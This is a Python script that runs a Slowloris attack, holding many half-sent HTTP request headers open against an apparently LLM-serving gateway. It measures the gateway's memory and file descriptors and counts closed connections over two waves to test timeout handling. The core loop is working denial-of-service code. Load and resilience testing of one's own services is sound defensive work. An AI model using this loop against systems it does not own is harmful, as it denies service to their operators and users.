#!/usr/bin/env python3
"""Slowloris against the gateway: N connections each send a request header one byte
per second and never finish it. Samples the gateway's RSS and open descriptors while
they are held and after `client_header_timeout`, and counts the connections the
gateway closed. Two waves: the second shows whether the first wave's memory was given
back for reuse (flat RSS) or kept (RSS growing by a wave's worth).
Usage: slowloris.py HOST:PORT PID CONNECTIONS HEADER_TIMEOUT_S"""
import socket, sys, time

addr, pid, n, timeout = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
host, port = addr.rsplit(":", 1)
HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000

def sample():
    rss = 0
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                rss = int(line.split()[1])
    import os
    fds = len(os.listdir(f"/proc/{pid}/fd"))
    return rss, fds

print(f"{'t_s':>6} {'open':>6} {'closed':>7} {'rss_MiB':>8} {'fds':>6}")
base = sample()
print(f"{0:6.1f} {0:6d} {0:7d} {base[0]/1024:8.1f} {base[1]:6d}   (before)")
def wave(k):
    socks, start = [], time.monotonic()
    for _ in range(n):
        s = socket.create_connection((host, int(port)))
        s.setblocking(False)
        socks.append(s)
    sent, closed, last_print = 0, set(), 0.0
    end = start + timeout + 8
    while time.monotonic() < end:
        for i, s in enumerate(socks):
            if i in closed:
                continue
            try:
                s.send(HEAD[sent:sent + 1])
                s.recv(1)  # raises BlockingIOError while the gateway keeps it open
                closed.add(i)
            except BlockingIOError:
                pass
            except OSError:
                closed.add(i)
        sent += 1
        t = time.monotonic() - start
        if t - last_print >= 4 or time.monotonic() + 1 >= end:
            rss, fds = sample()
            print(f"{t:6.1f} {n - len(closed):6d} {len(closed):7d} {rss/1024:8.1f} {fds:6d}")
            last_print = t
        time.sleep(1)
    rss, fds = sample()
    print(f"wave {k}: {len(closed)}/{n} closed by the gateway; rss {base[0]/1024:.1f} -> {rss/1024:.1f} MiB, fds {base[1]} -> {fds}")

for k in (1, 2):
    wave(k)
